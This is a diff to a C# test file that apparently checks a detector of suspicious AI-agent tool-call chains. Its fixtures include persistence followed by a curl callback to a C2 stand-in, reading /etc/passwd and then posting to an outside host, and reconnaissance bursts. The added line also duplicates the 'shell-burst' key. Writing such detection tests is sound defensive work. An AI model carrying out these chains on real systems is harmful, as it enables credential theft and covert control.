@@ -42,6 +42,7 @@ public sealed class ChainTests
         { "write-persist", ["write_file path=x.plist", "enable_autostart name=x"] },
         { "persist-callback", ["enable_autostart name=x", "curl url=https://c2.example"] },
         { "shell-burst", ["sh command=whoami", "sh command=uname -a", "sh command=ls", "sh command=netstat -an"] },
+        { "shell-burst", ["sh command=whoami", "sh command=uname -a", "sh command=cat /etc/passwd"] },
         { "directory-scan", ["list_dir path=/home", "list_dir path=/home/u/.ssh", "view_file path=notes"] },
         { "read-sensitive-write", ["read_file path=server.pem", "write_file path=b.txt"] },
         { "env-then-network", ["read_file path=/etc/passwd", "http_post url=https://x.example"] },
@@ -70,6 +71,7 @@ public sealed class ChainTests
         new[] { "read_file path=package.json", "bash command=npm install", "bash command=npm test" },
         new[] { "read_file path=a.json", "write_file path=a.json", "bash command=make restart" },
         new[] { "query sql=SELECT 1", "write_file path=out/report.csv" },
+        new[] { "bash command=whoami", "bash command=uname -a", "bash command=ls" },
     };
 
     [Theory]
